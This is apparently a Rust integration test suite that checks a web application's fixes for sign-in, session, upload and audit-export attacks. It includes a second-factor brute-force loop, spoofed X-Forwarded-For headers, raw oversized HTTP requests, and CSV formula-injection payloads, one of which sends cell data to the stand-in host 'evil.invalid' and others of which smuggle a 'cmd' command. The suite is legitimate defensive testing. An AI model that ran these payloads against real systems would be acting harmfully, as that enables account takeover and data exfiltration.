//! The attacks of issue 13 on sign-in, sessions, bodies and exports, each against the real server
//! on both backends: every test here failed before its fix.

use std::time::Duration;

use reqwest::{Client, StatusCode};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use vigie_domain::role::Role;
use vigie_store::accounts::NewUser;
use vigie_store::testing;

use super::common::*;

/// Posts the password form; returns the status and the `Location` (empty when none).
async fn password(
    c: &Client,
    app: &App,
    csrf: &str,
    email: &str,
    pw: &str,
    xff: Option<&str>,
) -> (StatusCode, String, String) {
    let mut req = c.post(format!("{}/login", app.base)).form(&[
        ("csrf", csrf),
        ("email", email),
        ("password", pw),
    ]);
    if let Some(x) = xff {
        req = req.header("x-forwarded-for", x);
    }
    let res = req.send().await.unwrap();
    let status = res.status();
    let loc = res
        .headers()
        .get("location")
        .map(|l| l.to_str().unwrap().to_string())
        .unwrap_or_default();
    (status, loc, res.text().await.unwrap())
}

async fn code(c: &Client, app: &App, path: &str, csrf: &str, code: &str) -> (StatusCode, String) {
    let res = c
        .post(format!("{}{path}", app.base))
        .form(&[("csrf", csrf), ("code", code)])
        .send()
        .await
        .unwrap();
    let loc = res
        .headers()
        .get("location")
        .map(|l| l.to_str().unwrap().to_string())
        .unwrap_or_default();
    (res.status(), loc)
}

/// Signs in with the password only: a client whose session waits for the second factor.
async fn pending(app: &App, email: &str) -> (Client, String) {
    let (c, csrf) = form_csrf(client(), app, "/login").await;
    let (s, loc, _) = password(&c, app, &csrf, email, PASSWORD, None).await;
    assert_eq!((s, loc.as_str()), (StatusCode::SEE_OTHER, "/login/totp"));
    form_csrf(c, app, "/login/totp").await
}

async fn audit_reasons(app: &App, reason: &str) -> Vec<vigie_store::audit::AuditEntry> {
    let (rows, _) = app
        .store
        .audit_search(
            &system(),
            &vigie_store::audit::AuditQuery {
                action: Some("auth.login".into()),
                limit: 1000,
                ..Default::default()
            },
        )
        .await
        .unwrap();
    rows.into_iter()
        .filter(|e| reason.is_empty() || e.detail.contains(&format!("\"{reason}\"")))
        .collect()
}

/// Item 1: after the password, 300 wrong codes (signing in again whenever the session ends), then
/// the right code: refused. The codes are counted per session (it ends at the limit) and per
/// account (its second factor locks, whatever the address); each refusal is audited with its
/// address. Other accounts sign in as usual, and the locked one again once the lock is over.
#[tokio::test]
async fn second_factor_cannot_be_brute_forced() {
    for db in testing::all().await {
        let app = spawn_app(
            &db,
            vigie_web::WebConfig {
                login_attempts_per_minute: 100_000,
                ..Default::default()
            },
        )
        .await;
        let w = seed(&app.store).await;
        let email = "cert_analyst@matrix.example";
        let totp = vigie_web::auth::totp_for(&w.totp[&Role::CertAnalyst], email).unwrap();
        let right = totp.generate_current().unwrap();
        let now = vigie_store::db::now() as u64;
        let valid: Vec<String> = [now - 60, now - 30, now, now + 30, now + 60]
            .iter()
            .map(|t| totp.generate(*t))
            .collect();
        let (mut c, mut csrf) = pending(&app, email).await;
        let mut logins = 1;
        let mut tried = 0;
        for guess in 0..300u32 {
            let guess = format!("{:06}", (guess * 7919 + 13) % 1_000_000);
            if valid.contains(&guess) {
                continue;
            }
            tried += 1;
            let (s, loc) = code(&c, &app, "/login/totp", &csrf, &guess).await;
            assert_ne!(loc, "/", "{}: a wrong code let in", db.name);
            if loc == "/login" {
                // The session ended: the attacker, who has the password, signs in again.
                (c, csrf) = pending(&app, email).await;
                logins += 1;
            } else {
                assert!(
                    s == StatusCode::UNAUTHORIZED || s == StatusCode::TOO_MANY_REQUESTS,
                    "{s}"
                );
            }
        }
        assert!(tried >= 295);
        let (s, loc) = code(&c, &app, "/login/totp", &csrf, &right).await;
        assert_ne!(
            loc, "/",
            "{}: the right code was accepted after 300 wrong ones ({logins} sign-ins)",
            db.name
        );
        assert_eq!(s, StatusCode::UNAUTHORIZED, "{}", db.name);
        // Locked, and said so.
        let html = c
            .post(format!("{}/login/totp", app.base))
            .form(&[("csrf", csrf.as_str()), ("code", right.as_str())])
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(html.contains("verrouillé"), "{html}");
        // The session counted its own failures: the first session ended after five codes.
        assert!(logins >= 2, "{}: sessions never ended", db.name);
        // Every second-factor event is audited with its address.
        let bad = audit_reasons(&app, "mfa_bad_code").await;
        assert!(!bad.is_empty());
        let locked = audit_reasons(&app, "mfa_locked").await;
        assert!(
            locked.len() > 250,
            "{}: {} locked refusals",
            db.name,
            locked.len()
        );
        for e in bad.iter().chain(&locked) {
            assert_eq!(e.ip.as_deref(), Some("127.0.0.1"), "{e:?}");
        }
        // The legitimate path still works for everyone else.
        let (c2, _) = sign_in(&app, &w, Role::Admin).await;
        assert_eq!(
            c2.get(format!("{}/structures", app.base))
                .send()
                .await
                .unwrap()
                .status(),
            StatusCode::OK
        );
        db.cleanup().await;
    }
}

/// The lock of the second factor is over after its time, and the right code then lets in.
#[tokio::test]
async fn second_factor_lock_is_time_bound() {
    let db = testing::sqlite().await;
    let app = spawn_app(
        &db,
        vigie_web::WebConfig {
            lockout_secs: 2,
            login_attempts_per_minute: 1000,
            ..Default::default()
        },
    )
    .await;
    let w = seed(&app.store).await;
    let email = "regional_analyst@matrix.example";
    let totp = vigie_web::auth::totp_for(&w.totp[&Role::RegionalAnalyst], email).unwrap();
    let (c, csrf) = pending(&app, email).await;
    for _ in 0..4 {
        let (s, _) = code(&c, &app, "/login/totp", &csrf, "000000").await;
        assert_eq!(s, StatusCode::UNAUTHORIZED);
    }
    // The fifth ends the session and locks the account's second factor.
    let (_, loc) = code(&c, &app, "/login/totp", &csrf, "000001").await;
    assert_eq!(loc, "/login");
    let (c, csrf) = pending(&app, email).await;
    let right = totp.generate_current().unwrap();
    let (s, loc) = code(&c, &app, "/login/totp", &csrf, &right).await;
    assert_eq!((s, loc.as_str()), (StatusCode::UNAUTHORIZED, ""));
    tokio::time::sleep(Duration::from_millis(3100)).await;
    let right = totp.generate_current().unwrap();
    let (s, loc) = code(&c, &app, "/login/totp", &csrf, &right).await;
    // The same time step may have been used above only if it was accepted, which it was not.
    assert_eq!((s, loc.as_str()), (StatusCode::SEE_OTHER, "/"));
    db.cleanup().await;
}

/// Item 1: the address throttle applies to second-factor codes as to passwords.
#[tokio::test]
async fn second_factor_is_throttled_per_address() {
    for db in testing::all().await {
        let app = spawn_app(
            &db,
            vigie_web::WebConfig {
                login_attempts_per_minute: 8,
                max_login_failures: 1000,
                ..Default::default()
            },
        )
        .await;
        seed(&app.store).await;
        let (c, csrf) = pending(&app, "admin@matrix.example").await;
        let mut throttled = 0;
        for _ in 0..20 {
            let (s, _) = code(&c, &app, "/login/totp", &csrf, "123456").await;
            if s == StatusCode::TOO_MANY_REQUESTS {
                throttled += 1;
            }
        }
        assert!(throttled >= 12, "{}: {throttled} throttled", db.name);
        db.cleanup().await;
    }
}

/// Item 10: a name without an account answers exactly like a real one (same statuses, same
/// messages, same lock), and the lock is for the address that failed only: the real user, from
/// their own address, still signs in.
#[tokio::test]
async fn unknown_names_lock_alike_and_nobody_locks_others_out() {
    for db in testing::all().await {
        let app = spawn_app(
            &db,
            vigie_web::WebConfig {
                login_attempts_per_minute: 1000,
                trust_proxy: true,
                ..Default::default()
            },
        )
        .await;
        seed(&app.store).await;
        let (c, csrf) = form_csrf(client(), &app, "/login").await;
        let attacker = Some("198.51.100.66");
        let mut answers = Vec::new();
        for email in ["structure_member@matrix.example", "nobody@matrix.example"] {
            let mut seq = Vec::new();
            for _ in 0..7 {
                let (s, _, html) =
                    password(&c, &app, &csrf, email, "wrong password!", attacker).await;
                let msg = html
                    .split("role=\"alert\">")
                    .nth(1)
                    .and_then(|m| m.split('<').next())
                    .unwrap_or("")
                    .to_string();
                seq.push((s, msg));
            }
            answers.push(seq);
        }
        assert_eq!(
            answers[0], answers[1],
            "{}: known and unknown differ",
            db.name
        );
        assert!(answers[0][5].1.contains("verrouillé"), "{:?}", answers[0]);
        // The right password from the attacking address is refused while locked…
        let (s, _, _) = password(
            &c,
            &app,
            &csrf,
            "structure_member@matrix.example",
            PASSWORD,
            attacker,
        )
        .await;
        assert_eq!(s, StatusCode::UNAUTHORIZED);
        // …but the real user, from their address, signs in.
        let (s, loc, _) = password(
            &c,
            &app,
            &csrf,
            "structure_member@matrix.example",
            PASSWORD,
            Some("203.0.113.10"),
        )
        .await;
        assert_eq!(
            (s, loc.as_str()),
            (StatusCode::SEE_OTHER, "/"),
            "{}",
            db.name
        );
        db.cleanup().await;
    }
}

/// Item 6: behind a trusted proxy, rotating the left of X-Forwarded-For changes nothing: the
/// client is the right-most address that is not a trusted proxy, and the throttle holds.
/// From an address that is not a trusted proxy, the header is ignored altogether.
#[tokio::test]
async fn forwarded_for_is_read_from_trusted_proxies_only() {
    for db in testing::all().await {
        let app = spawn_app(
            &db,
            vigie_web::WebConfig {
                login_attempts_per_minute: 5,
                trust_proxy: true,
                ..Default::default()
            },
        )
        .await;
        seed(&app.store).await;
        let (c, csrf) = form_csrf(client(), &app, "/login").await;
        let mut throttled = 0;
        for i in 0..12 {
            // What the client typed, then what our proxy (on loopback) appended.
            let xff = format!("10.9.{i}.{i}, 198.51.100.7");
            let (s, _, _) = password(
                &c,
                &app,
                &csrf,
                "x@y.example",
                "wrong password!",
                Some(&xff),
            )
            .await;
            if s == StatusCode::TOO_MANY_REQUESTS {
                throttled += 1;
            }
        }
        assert!(
            throttled >= 6,
            "{}: rotating XFF bypassed the throttle",
            db.name
        );
        // A formula in the header never reaches the audit log as an address.
        let (_, _, _) = password(
            &c,
            &app,
            &csrf,
            "x@y.example",
            "wrong password!",
            Some("=HYPERLINK(\"http://evil.invalid/?\"&A1)"),
        )
        .await;
        let rows = audit_reasons(&app, "").await;
        for e in &rows {
            let ip = e.ip.as_deref().unwrap_or("");
            assert!(
                ip.parse::<std::net::IpAddr>().is_ok(),
                "{}: audit ip {ip:?}",
                db.name
            );
        }
        assert!(rows.iter().any(|e| e.ip.as_deref() == Some("198.51.100.7")));
        assert!(rows.iter().any(|e| e.ip.as_deref() == Some("127.0.0.1")));

        // A peer that is not a trusted proxy: its X-Forwarded-For is not read.
        let app2 = spawn_app(
            &db,
            vigie_web::WebConfig {
                login_attempts_per_minute: 1000,
                trust_proxy: true,
                trusted_proxies: vec![vigie_web::auth::ProxyNet::parse("192.0.2.0/24").unwrap()],
                ..Default::default()
            },
        )
        .await;
        let (c, csrf) = form_csrf(client(), &app2, "/login").await;
        password(
            &c,
            &app2,
            &csrf,
            "second@y.example",
            "pw",
            Some("198.51.100.7"),
        )
        .await;
        let rows = audit_reasons(&app, "unknown_user").await;
        let e = rows.iter().find(|e| e.actor == "second@y.example").unwrap();
        assert_eq!(e.ip.as_deref(), Some("127.0.0.1"), "{}", db.name);
        db.cleanup().await;
    }
}

/// Item 6: no cell of the audit CSV (page and API) starts a formula, whatever was typed.
#[tokio::test]
async fn audit_csv_cells_cannot_run_as_formulas() {
    for db in testing::all().await {
        let app = spawn_app(
            &db,
            vigie_web::WebConfig {
                login_attempts_per_minute: 1000,
                ..Default::default()
            },
        )
        .await;
        let w = seed(&app.store).await;
        let (c, csrf) = form_csrf(client(), &app, "/login").await;
        for typed in [
            "=HYPERLINK(\"http://evil.invalid/?\"&A1)",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "  =1+1",
        ] {
            password(&c, &app, &csrf, typed, "pw", None).await;
        }
        // An address stored by an older version as it was typed.
        app.store
            .audit_login(
                "legacy@x.example",
                None,
                Some("=HYPERLINK(\"http://evil.invalid/?\"&A1)".into()),
                false,
                "unknown_user",
            )
            .await
            .unwrap();
        let body = c_get_csv(&app, &w.tokens[&Role::Admin], "/api/v1/audit.csv").await;
        let mut rdr = csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
        let mut n = 0;
        for rec in rdr.records() {
            for cell in rec.unwrap().iter() {
                let first = cell.trim_start_matches(' ').chars().next();
                let number = cell.parse::<f64>().is_ok();
                assert!(
                    number || !first.is_some_and(|c| "=+-@\t\r".contains(c)),
                    "{}: formula cell {cell:?}",
                    db.name
                );
                n += 1;
            }
        }
        assert!(n > 50);
        assert!(body.contains("'=hyperlink"), "{body}");
        db.cleanup().await;
    }
}

async fn c_get_csv(app: &App, token: &str, path: &str) -> String {
    let res = client()
        .get(format!("{}{path}", app.base))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK, "{path}");
    res.text().await.unwrap()
}

/// Sends a request by hand on a raw connection: `head` (request line and headers, without the
/// blank line), then `body`; returns what came back within `wait` (empty when nothing did).
async fn raw(app: &App, head: &str, body: &[u8], wait: Duration) -> String {
    let addr = app.base.trim_start_matches("http://");
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    s.write_all(format!("{head}\r\nHost: {addr}\r\n\r\n").as_bytes())
        .await
        .unwrap();
    let _ = s.write_all(body).await;
    let mut out = Vec::new();
    let mut buf = vec![0u8; 65536];
    let deadline = tokio::time::Instant::now() + wait;
    loop {
        match tokio::time::timeout_at(deadline, s.read(&mut buf)).await {
            Ok(Ok(n)) if n > 0 => out.extend_from_slice(&buf[..n]),
            _ => break,
        }
    }
    String::from_utf8_lossy(&out).to_string()
}

/// A session of `user` that passed its second factor: (cookie header, CSRF token).
async fn session_of(app: &App, user: i64) -> (String, String) {
    let (tok, csrf) = app
        .store
        .create_session(user, true, 3600, None, None)
        .await
        .unwrap();
    (format!("Cookie: vigie_session={tok}"), csrf)
}

/// Item 5: a large anonymous POST is refused with 413 from its declared length, before its body
/// is sent (the answer comes while 59 of the 60 MB are still to come), and a chunked body is cut
/// at the small limit of the sign-in form.
#[tokio::test]
async fn large_anonymous_bodies_are_refused_before_buffering() {
    for db in testing::all().await {
        let app = spawn_app(&db, Default::default()).await;
        let answer = raw(
            &app,
            "POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000000",
            &[b'a'; 1024],
            Duration::from_secs(5),
        )
        .await;
        assert!(
            answer.starts_with("HTTP/1.1 413"),
            "{}: the server waited for the body: {answer:?}",
            db.name
        );
        assert!(answer.contains("trop volumineux"), "{answer}");
        // A cookie that is no session does not open the larger limit of uploads.
        let answer = raw(
            &app,
            "POST /import/finess HTTP/1.1\r\nCookie: vigie_session=forged\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 60000000",
            b"",
            Duration::from_secs(5),
        )
        .await;
        assert!(answer.starts_with("HTTP/1.1 413"), "{answer:?}");
        // Chunked: no declared length, cut while it streams.
        let (_, csrf) = form_csrf(client(), &app, "/login").await;
        let form = format!("csrf={csrf}&email=a%40b.fr&password={}", "x".repeat(40_000));
        let mut body = Vec::new();
        for chunk in form.as_bytes().chunks(4096) {
            body.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
            body.extend_from_slice(chunk);
            body.extend_from_slice(b"\r\n");
        }
        body.extend_from_slice(b"0\r\n\r\n");
        let answer = raw(
            &app,
            &format!(
                "POST /login HTTP/1.1\r\nCookie: vigie_csrf={csrf}\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked"
            ),
            &body,
            Duration::from_secs(5),
        )
        .await;
        assert!(
            answer.starts_with("HTTP/1.1 413"),
            "{}: {answer:?}",
            db.name
        );
        // A normal sign-in still works.
        let (c, csrf) = form_csrf(client(), &app, "/login").await;
        let (s, _, _) = password(&c, &app, &csrf, "nobody@x.example", "pw", None).await;
        assert_eq!(s, StatusCode::UNAUTHORIZED);
        db.cleanup().await;
    }
}

/// Item 11: over its limit, an upload is a 413 that says the limit, in the reader's language on a
/// page and as a JSON problem on the API; the FINESS import of the API takes an explicit larger
/// limit (more than the default 2 MiB), but only after the caller's rights were checked.
#[tokio::test]
async fn uploads_have_explicit_limits_and_clear_refusals() {
    for db in testing::all().await {
        let app = spawn_app(&db, Default::default()).await;
        let w = seed(&app.store).await;
        let admin = &w.tokens[&Role::Admin];
        let wait = Duration::from_secs(5);
        // A JSON body over the default limit: the API's problem.
        let answer = raw(
            &app,
            &format!(
                "POST /api/v1/structures/{}/assets HTTP/1.1\r\nAuthorization: Bearer {admin}\r\nContent-Type: application/json\r\nContent-Length: {}",
                w.pitie,
                3 * 1024 * 1024
            ),
            b"",
            wait,
        )
        .await;
        assert!(answer.starts_with("HTTP/1.1 413"), "{answer:?}");
        let json = answer.split("\r\n\r\n").nth(1).unwrap();
        let j: serde_json::Value = serde_json::from_str(json).unwrap();
        assert_eq!(j["problem"]["key"], "common-too_large", "{j}");
        assert!(j["error"].as_str().unwrap().contains("2 MiB"), "{j}");
        // A FINESS extract of 3 MiB goes through the API (its extra lines are refused one by one:
        // the point is that the body was taken).
        let mut extract = FINESS_SMALL.to_vec();
        while extract.len() < 3 * 1024 * 1024 {
            extract.extend_from_slice(b"structureet;bad line\n");
        }
        let res = client()
            .post(format!("{}/api/v1/imports/finess", app.base))
            .bearer_auth(admin)
            .header("content-type", "text/csv")
            .body(extract)
            .send()
            .await
            .unwrap();
        let status = res.status();
        let text = res.text().await.unwrap();
        assert!(
            status.is_success() || status == StatusCode::BAD_REQUEST,
            "{}: {status} {text}",
            db.name
        );
        // Somebody without the right gets 403 at once: the body is not read.
        let answer = raw(
            &app,
            &format!(
                "POST /api/v1/imports/finess HTTP/1.1\r\nAuthorization: Bearer {}\r\nContent-Type: text/csv\r\nContent-Length: 50000000",
                w.tokens[&Role::StructureMember]
            ),
            b"",
            wait,
        )
        .await;
        assert!(answer.starts_with("HTTP/1.1 403"), "{answer:?}");
        // Over the FINESS limit: refused from the declared length.
        let answer = raw(
            &app,
            &format!(
                "POST /api/v1/imports/finess HTTP/1.1\r\nAuthorization: Bearer {admin}\r\nContent-Type: text/csv\r\nContent-Length: {}",
                200 * 1024 * 1024
            ),
            b"",
            wait,
        )
        .await;
        assert!(answer.starts_with("HTTP/1.1 413"), "{answer:?}");
        assert!(answer.contains("128 MiB"), "{answer:?}");
        // The page import of a GHT composition over its limit: a page, in French, that says it.
        let (cookie, csrf) = session_of(&app, w.users[&Role::Admin]).await;
        let answer = raw(
            &app,
            &format!(
                "POST /import/ght?csrf={csrf} HTTP/1.1\r\n{cookie}\r\nContent-Type: multipart/form-data; boundary=xyz\r\nContent-Length: {}",
                9 * 1024 * 1024
            ),
            b"",
            wait,
        )
        .await;
        assert!(answer.starts_with("HTTP/1.1 413"), "{answer:?}");
        assert!(
            answer.contains("trop volumineux") && answer.contains("8 Mio"),
            "{answer}"
        );
        assert!(!answer.contains("multipart"), "{answer}");
        // Streamed past the limit without a declared length: the same page from the handler.
        let mut body =
            b"--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"g.csv\"\r\n\r\n"
                .to_vec();
        body.extend(std::iter::repeat_n(b'x', 8 * 1024 * 1024 + 10));
        let mut chunked = Vec::new();
        for chunk in body.chunks(1 << 20) {
            chunked.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
            chunked.extend_from_slice(chunk);
            chunked.extend_from_slice(b"\r\n");
        }
        chunked.extend_from_slice(b"0\r\n\r\n");
        let answer = raw(
            &app,
            &format!(
                "POST /import/ght?csrf={csrf} HTTP/1.1\r\n{cookie}\r\nContent-Type: multipart/form-data; boundary=xyz\r\nTransfer-Encoding: chunked"
            ),
            &chunked,
            Duration::from_secs(20),
        )
        .await;
        assert!(answer.starts_with("HTTP/1.1 413"), "{answer:.300}");
        assert!(answer.contains("8 Mio"), "{answer}");
        // An inventory streamed past the default limit on the watch's import page: the same
        // page (it said "upload: Error parsing `multipart/form-data` request").
        let mut body =
            b"--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"i.csv\"\r\n\r\n"
                .to_vec();
        body.extend(std::iter::repeat_n(b'x', 2 * 1024 * 1024 + 10));
        let mut chunked = Vec::new();
        for chunk in body.chunks(1 << 20) {
            chunked.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
            chunked.extend_from_slice(chunk);
            chunked.extend_from_slice(b"\r\n");
        }
        chunked.extend_from_slice(b"0\r\n\r\n");
        let answer = raw(
            &app,
            &format!(
                "POST /structures/{}/inventory/import?csrf={csrf} HTTP/1.1\r\n{cookie}\r\nContent-Type: multipart/form-data; boundary=xyz\r\nTransfer-Encoding: chunked",
                w.fleyriat
            ),
            &chunked,
            Duration::from_secs(20),
        )
        .await;
        assert!(answer.starts_with("HTTP/1.1 413"), "{answer:.300}");
        assert!(
            answer.contains("trop volumineux") && answer.contains("2 Mio"),
            "{answer:.2000}"
        );
        assert!(!answer.contains("multipart"), "{answer:.2000}");
        db.cleanup().await;
    }
}

/// Item 7: a long e-mail typed in the form is neither stored whole nor echoed whole.
#[tokio::test]
async fn typed_email_is_bounded_in_the_log_and_the_page() {
    for db in testing::all().await {
        let app = spawn_app(&db, Default::default()).await;
        let (c, csrf) = form_csrf(client(), &app, "/login").await;
        let typed = format!("{}@x.example", "a".repeat(12_000));
        let (s, _, html) = password(&c, &app, &csrf, &typed, "pw", None).await;
        assert_eq!(s, StatusCode::UNAUTHORIZED);
        assert!(
            !html.contains(&"a".repeat(300)),
            "{}: the page echoes it all",
            db.name
        );
        let rows = audit_reasons(&app, "unknown_user").await;
        assert!(rows[0].actor.chars().count() <= 255, "{}", db.name);
        // Over the sign-in form's limit, refused before anything is written.
        let typed = format!("{}@x.example", "a".repeat(1_900_000));
        let (s, _, _) = password(&c, &app, &csrf, &typed, "pw", None).await;
        assert_eq!(s, StatusCode::PAYLOAD_TOO_LARGE);
        assert_eq!(audit_reasons(&app, "unknown_user").await.len(), 1);
        db.cleanup().await;
    }
}

/// Item 10: an administrator's reset of a user's second factor ends that user's open sessions;
/// so does a new password.
#[tokio::test]
async fn resetting_mfa_ends_the_users_sessions() {
    for db in testing::all().await {
        let app = spawn_app(
            &db,
            vigie_web::WebConfig {
                login_attempts_per_minute: 1000,
                ..Default::default()
            },
        )
        .await;
        let w = seed(&app.store).await;
        let (victim, _) = sign_in(&app, &w, Role::CertAnalyst).await;
        let get = |c: Client| {
            let base = app.base.clone();
            async move {
                c.get(format!("{base}/structures"))
                    .send()
                    .await
                    .unwrap()
                    .status()
            }
        };
        assert_eq!(get(victim.clone()).await, StatusCode::OK);
        let (admin, csrf) = sign_in(&app, &w, Role::Admin).await;
        let res = admin
            .post(format!(
                "{}/users/{}/reset-mfa",
                app.base,
                w.users[&Role::CertAnalyst]
            ))
            .form(&[("csrf", csrf.as_str())])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::SEE_OTHER);
        assert_eq!(
            get(victim).await,
            StatusCode::SEE_OTHER,
            "{}: the session outlived the reset of the second factor",
            db.name
        );
        db.cleanup().await;
    }
}

/// Items 1 and 10: the current password of the account page is limited like the sign-in form's:
/// wrong ones end the session at the limit, and lock the name for the address.
#[tokio::test]
async fn current_password_check_is_limited() {
    for db in testing::all().await {
        let app = spawn_app(
            &db,
            vigie_web::WebConfig {
                login_attempts_per_minute: 1000,
                ..Default::default()
            },
        )
        .await;
        let w = seed(&app.store).await;
        let (c, csrf) = sign_in(&app, &w, Role::StructureAdmin).await;
        let mut ended_at = None;
        for i in 1..=50 {
            let res = c
                .post(format!("{}/account/password", app.base))
                .form(&[
                    ("csrf", csrf.as_str()),
                    ("current", &format!("guess number {i}")),
                    ("new", "a brand new long password"),
                ])
                .send()
                .await
                .unwrap();
            if res.headers().get("location").is_some_and(|l| l == "/login") {
                ended_at = Some(i);
                break;
            }
        }
        assert_eq!(
            ended_at,
            Some(5),
            "{}: the current password is not limited",
            db.name
        );
        // The name is locked for this address: even the right password is refused now.
        let (c, csrf) = form_csrf(client(), &app, "/login").await;
        let (s, _, html) = password(
            &c,
            &app,
            &csrf,
            "structure_admin@matrix.example",
            PASSWORD,
            None,
        )
        .await;
        assert_eq!(s, StatusCode::UNAUTHORIZED);
        assert!(html.contains("verrouillé"));
        db.cleanup().await;
    }
}

/// Item 12: the national auditor passes a second factor, and must enrol one at first sign-in.
#[tokio::test]
async fn national_auditor_needs_a_second_factor() {
    for db in testing::all().await {
        let app = spawn_app(&db, Default::default()).await;
        let w = seed(&app.store).await;
        // With a factor: asked for the code (sign_in checks nothing is visible before it).
        let (c, _) = sign_in(&app, &w, Role::Auditor).await;
        assert_eq!(
            c.get(format!("{}/audit", app.base))
                .send()
                .await
                .unwrap()
                .status(),
            StatusCode::OK
        );
        // Without one yet: sent to enrol, and nothing is visible meanwhile.
        app.store
            .create_user(
                &system(),
                &NewUser {
                    email: "new.auditor@x.example".into(),
                    display_name: "A".into(),
                    role: Role::Auditor,
                    region_code: None,
                    ght_id: None,
                    structure_ids: vec![],
                    password: Some(PASSWORD.into()),
                    locale: "fr".into(),
                    must_change_password: false,
                },
            )
            .await
            .unwrap();
        let (c, csrf) = form_csrf(client(), &app, "/login").await;
        let (s, loc, _) = password(&c, &app, &csrf, "new.auditor@x.example", PASSWORD, None).await;
        assert_eq!(
            (s, loc.as_str()),
            (StatusCode::SEE_OTHER, "/login/totp/setup"),
            "{}",
            db.name
        );
        let res = c.get(format!("{}/audit", app.base)).send().await.unwrap();
        assert_eq!(res.headers()["location"], "/login/totp/setup");
        db.cleanup().await;
    }
}
